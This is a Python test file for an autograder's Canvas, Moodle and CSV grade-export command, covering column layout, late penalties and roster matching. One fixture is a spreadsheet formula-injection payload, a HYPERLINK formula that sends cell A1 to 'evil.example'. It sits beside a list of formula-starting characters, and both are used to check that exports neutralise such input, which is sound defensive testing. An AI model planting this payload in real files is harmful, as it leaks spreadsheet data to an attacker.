"""Does `autograder export grades` write the file that Canvas or Moodle imports, in the columns
their documentation gives, with final scores, matched to a roster, and safe to open?"""

import csv
import io

import pytest
from click.testing import CliRunner

from autograder import api
from autograder.assignments import CATALOG
from autograder.cli import EXIT_USAGE, main
from autograder.gradebook import Gradebook
from autograder.render.lms import FORMATS, LmsExportError, read_roster, render_rows
from autograder.results import LateAdjustment, Outcome, SubmissionResult, SubmissionStatus, TestResult

# The documented columns, copied from the documentation (not from the module under test).
# Canvas, "How do I import grades in the Gradebook?":
# https://community.canvaslms.com/t5/Instructor-Guide/How-do-I-import-grades-in-the-Gradebook/ta-p/807
# and Ohio State's guide to the same import:
# https://teaching.resources.osu.edu/toolsets/carmencanvas/guides/calculating-final-grades/import-csv-file-carmen-grades
# ("Student Name ... OR Student ID OR Student SIS User ID", "SIS Login ID", "Section", "Assignment Name").
CANVAS_DOCUMENTED = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
CANVAS_POINTS_POSSIBLE = "Points Possible"  # the label of the export's second row
# Moodle, "Grade import": https://docs.moodle.org/311/en/Grade_import ("The import file format is the
# same as the corresponding export format"); the export's identity columns, as Moodle's own import
# tests write them (grade/import/csv/tests, moodle/moodle), with "Last name" for the older "Surname".
MOODLE_DOCUMENTED = ["First name", "Last name", "ID number", "Institution", "Department", "Email address"]
MOODLE_EXPORT_ONLY = "Last downloaded from this course"

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
ODD_ID = 'o\'neil, "jr"'  # a comma and quotes: the CSV must quote it, and a reader get it back
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LENET = CATALOG["lenet"].title
ACTIVATIONS = CATALOG["activations"].title


def points(name, earned, maximum):
    outcome = Outcome.PASSED if earned == maximum else Outcome.FAILED
    return TestResult(name, maximum, earned, outcome, "passed" if earned == maximum else "values")


def result(assignment, student, earned, maximum, *, status=SubmissionStatus.GRADED, **identity):
    return SubmissionResult(assignment, student, status, [points("test_all", earned, maximum)], max_score=maximum,
                            **identity)


RESULTS = [
    result("activations", "ada", 8.5, 10.0, name="Ada Lovelace", email="Ada@Example.org", sid="S001"),
    result("lenet", "ada", 19.25, 20.0, name="Ada Lovelace", email="Ada@Example.org", sid="S001"),
    result("activations", "zoe", 6.0, 10.0, name="Zoë Ñúñez", email="zoe@example.org", sid="S002"),
    result("activations", "mallory", 4.0, 10.0, name=EVIL_NAME, email="m@example.org", sid="S003"),
    result("activations", ODD_ID, 7.0, 10.0),
    # A problem row: its score (0) is exported, like any other.
    result("activations", "carl", 0.0, 10.0, status=SubmissionStatus.SYNTAX_ERROR),
]


@pytest.fixture
def outdir(tmp_path):
    folder = tmp_path / "graded"
    folder.mkdir()
    with Gradebook(folder) as gradebook:
        for row in RESULTS:
            gradebook.record(row, "test-version")
    return folder


def invoke(*args):
    return CliRunner().invoke(main, [str(arg) for arg in args], catch_exceptions=False)


def read(path):
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))  # strict UTF-8


def assert_no_formula(rows):
    """No text cell starts like a spreadsheet formula (numbers may be negative, but none is here)."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


def by_column(header, row):
    return dict(zip(header, row))


def test_canvas_export_has_the_documented_columns(outdir):
    built = api.export_grades(outdir, "canvas")
    assert built.path == outdir / "canvas_grades.csv"
    rows = read(built.path)
    header = rows[0]
    assert header == CANVAS_DOCUMENTED + [ACTIVATIONS, LENET]
    assert rows[1][0].strip() == CANVAS_POINTS_POSSIBLE and rows[1][1:5] == ["", "", "", ""]
    assert rows[1][5:] == ["10", "20"]
    students = {row[2]: by_column(header, row) for row in rows[2:]}  # by SIS User ID
    assert built.rows == len(students) == 5
    assert students["S001"]["Student"] == "Ada Lovelace"
    assert (students["S001"][ACTIVATIONS], students["S001"][LENET]) == ("8.5", "19.25")
    assert students["S002"]["Student"] == "Zoë Ñúñez" and students["S002"][LENET] == ""  # no grade: empty, not 0
    assert students["S003"]["Student"] == "'" + EVIL_NAME  # neutralised, still readable
    assert students[ODD_ID][ACTIVATIONS] == "7"  # no SIS id known: the student id, round-tripped
    assert students["carl"][ACTIVATIONS] == "0"  # a problem row exports its score
    assert_no_formula(rows)


def test_moodle_export_has_the_documented_columns(outdir):
    built = api.export_grades(outdir, "moodle", outdir / "to-moodle.csv")
    rows = read(outdir / "to-moodle.csv")
    header = rows[0]
    assert header == MOODLE_DOCUMENTED + [ACTIVATIONS, LENET]
    assert MOODLE_EXPORT_ONLY not in header
    students = {row[2]: by_column(header, row) for row in rows[1:]}  # by ID number
    assert built.rows == len(students) == 5
    ada = students["S001"]
    assert (ada["First name"], ada["Last name"], ada["Email address"]) == ("Ada", "Lovelace", "Ada@Example.org")
    assert (ada[ACTIVATIONS], ada[LENET]) == ("8.5", "19.25")
    assert students["S002"]["Last name"] == "Ñúñez"
    assert students[ODD_ID]["Email address"] == "" and students[ODD_ID][ACTIVATIONS] == "7"
    assert students["carl"][ACTIVATIONS] == "0"
    assert_no_formula(rows)


def test_plain_csv_has_one_column_per_assignment_id(outdir):
    rows = read(api.export_grades(outdir, "csv", assignments=["lenet"]).path)
    assert rows[0] == ["student", "name", "email", "sid", "lenet"]
    assert ["ada", "Ada Lovelace", "Ada@Example.org", "S001", "19.25"] in rows
    assert len(rows) == 2  # the students with a lenet result


@pytest.mark.parametrize("fmt", FORMATS)
def test_late_adjustments_give_the_final_score(fmt):
    late = {("activations", "ada"): LateAdjustment("activations", "ada", raw_score=8.5, final_score=6.8,
                                                   penalty_points=1.7, late_seconds=90000, late_units=2)}
    rows, built = render_rows(fmt, RESULTS, adjustments=late, titles={"activations": ACTIVATIONS})
    ada = next(row for row in rows if "S001" in row)
    assert "6.8" in ada and "8.5" not in ada
    assert built.adjusted == 1


def test_late_policy_through_the_course_file(outdir, tmp_path):
    late = result("losses", "ada", 5.0, 10.0, sid="S001", submitted_at="2026-10-03T00:30:00+00:00",
                  time_source="gradescope")
    with Gradebook(outdir) as gradebook:
        gradebook.record(late, "test-version")
    course = tmp_path / "course.yml"
    course.write_text('assignments:\n  losses: {due: "2026-10-01 23:59+00:00"}\n'
                      "defaults:\n  late_policy: {penalty_percent: 10, per: day}\n")
    built = api.export_grades(outdir, "csv", assignments=["losses"], course=course)
    rows = read(built.path)
    # 2 days late at 10% a day: 20% off 5.
    assert built.adjusted == 1 and ["ada", "Ada Lovelace", "Ada@Example.org", "S001", "4"] in rows


def test_canvas_roster_matches_its_students(outdir, tmp_path):
    """Canvas's own export as the roster: its identity columns are copied, its assignment column
    reused, its test student and Points Possible row dropped; who does not match is reported."""
    roster = tmp_path / "canvas_export.csv"
    roster.write_text(
        "\ufeff" + f'Student,ID,SIS User ID,SIS Login ID,Section,{LENET} (4757),Final Score\n'
        '    Points Possible,,,,,20,(read only)\n'
        '"Lovelace, Ada",101,s001,ada@example.org,Sec 1,3,80\n'
        '"Ñúñez, Zoë",102,,zoe@example.org,Sec 1,,\n'  # matched by SIS Login ID = email
        '"Newcomer, Nina",103,S009,nina,Sec 2,,\n'  # in Canvas, not graded
        '"Student, Test",999,,,Sec 1,,\n', encoding="utf-8")
    result = invoke("export", "grades", outdir, "--format", "canvas", "--roster", roster)
    assert result.exit_code == 0, result.output
    rows = read(outdir / "canvas_grades.csv")
    header = rows[0]
    assert header == CANVAS_DOCUMENTED + [ACTIVATIONS, f"{LENET} (4757)"]
    assert [row[0] for row in rows[2:]] == ["Lovelace, Ada", "Ñúñez, Zoë", "Newcomer, Nina"]  # the roster's order
    assert rows[2] == ["Lovelace, Ada", "101", "s001", "ada@example.org", "Sec 1", "8.5", "19.25"]
    assert rows[3][5] == "6" and rows[4][5:] == ["", ""]  # no grade: empty cells, never 0
    assert "canvas_grades.csv" in result.output
    assert "S009" in result.output  # in the roster with no grade
    for left_out in ("mallory", "carl"):
        assert left_out in result.output and not any(left_out in row for row in rows)


def test_moodle_roster_matches_by_id_number_and_email(outdir, tmp_path):
    roster = tmp_path / "moodle_export.csv"
    roster.write_text(
        f'First name,Last name,ID number,Institution,Department,Email address,Assignment: {LENET} (Real),'
        f'{MOODLE_EXPORT_ONLY}\n'
        'Ada,Lovelace,S001,Uni,CS,ada.l@uni.example,-,1760000000\n'
        'Zoë,Ñúñez,,Uni,CS,ZOE@EXAMPLE.ORG,-,1760000000\n', encoding="utf-8")
    built = api.export_grades(outdir, "moodle", roster=roster)
    rows = read(built.path)
    assert rows[0] == MOODLE_DOCUMENTED + [ACTIVATIONS, f"Assignment: {LENET} (Real)"]
    assert rows[1] == ["Ada", "Lovelace", "S001", "Uni", "CS", "ada.l@uni.example", "8.5", "19.25"]
    assert rows[2] == ["Zoë", "Ñúñez", "", "Uni", "CS", "ZOE@EXAMPLE.ORG", "6", ""]
    assert sorted(built.missing_from_roster) == sorted(["carl", "mallory", ODD_ID])
    assert built.without_grades == []


def test_plain_roster_fills_what_it_lacks(outdir, tmp_path):
    roster = tmp_path / "class.csv"
    with roster.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows([["sid", "email"], ["S001", ""], [ODD_ID, "odd@example.org"]])
    rows = read(api.export_grades(outdir, "canvas", roster=roster).path)
    assert [row[2] for row in rows[2:]] == ["S001", ODD_ID]  # SIS User ID: the sid, else the student id
    assert rows[2][0] == "Ada Lovelace" and rows[3][5] == "7"


def test_bad_input_is_one_line_and_exit_2(outdir, tmp_path):
    no_identity = tmp_path / "names.csv"
    no_identity.write_text("name\nAda\n")
    cases = {
        "no gradebook": ("export", "grades", tmp_path / "nowhere", "--format", "canvas"),
        "unknown format": ("export", "grades", outdir, "--format", "blackboard"),
        "unknown assignment": ("export", "grades", outdir, "--format", "csv", "--assignment", "losses"),
        "roster not found": ("export", "grades", outdir, "--format", "csv", "--roster", tmp_path / "none.csv"),
        "roster without ids": ("export", "grades", outdir, "--format", "csv", "--roster", no_identity),
        "output is a folder": ("export", "grades", outdir, "--format", "csv", "-o", tmp_path),
        "bad course file": ("export", "grades", outdir, "--format", "csv", "--course", tmp_path / "none.yml"),
    }
    for case, args in cases.items():
        result = invoke(*args)
        assert result.exit_code == EXIT_USAGE, (case, result.output)
        assert len(result.output.strip().splitlines()) == 1 and "error:" in result.output, (case, result.output)
    assert not (tmp_path / "nowhere").exists()
    with pytest.raises(LmsExportError, match="canvas, moodle or csv"):
        api.export_grades(outdir, "xlsx")


def test_roster_drops_canvas_rows_that_are_no_student(tmp_path):
    roster = tmp_path / "r.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n    Points Possible,,,,\n"
                      "    Manual Posting,,,,\n\"Student, Test\",9,,,\n\"A, B\",1,S1,,\n")
    assert [row["sis user id"] for row in read_roster(roster).rows] == ["S1"]
